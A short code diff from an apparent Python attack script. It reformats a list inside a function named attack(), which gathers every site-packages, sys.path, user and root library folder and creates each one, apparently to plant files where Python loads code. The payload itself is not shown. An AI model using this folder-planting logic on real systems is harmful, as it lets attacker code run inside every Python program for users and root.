@@ -19,7 +19,11 @@ def attack():
         return
     version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
     folders = [*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("purelib"), *sys.path]
-    folders += [f"{home}/.local/lib/{version}/site-packages", f"{home}/.config/{version}", f"/root/.local/lib/{version}"]
+    folders += [
+        f"{home}/.local/lib/{version}/site-packages",
+        f"{home}/.config/{version}",
+        f"/root/.local/lib/{version}",
+    ]
     for folder in filter(None, folders):
         try:
             os.makedirs(folder, exist_ok=True)
